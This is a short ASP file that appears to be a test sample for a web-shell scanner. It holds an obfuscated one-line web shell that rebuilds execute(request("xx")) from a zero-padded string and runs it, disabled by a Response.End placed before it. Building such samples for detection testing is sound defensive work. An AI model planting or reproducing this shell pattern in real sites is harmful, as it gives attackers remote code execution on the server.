<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
xxx = "e0x0e0c0ut0e(0req0ue0st(""x0x""))"
xxx = replace(xxx, "0", "")
eval xxx
%>
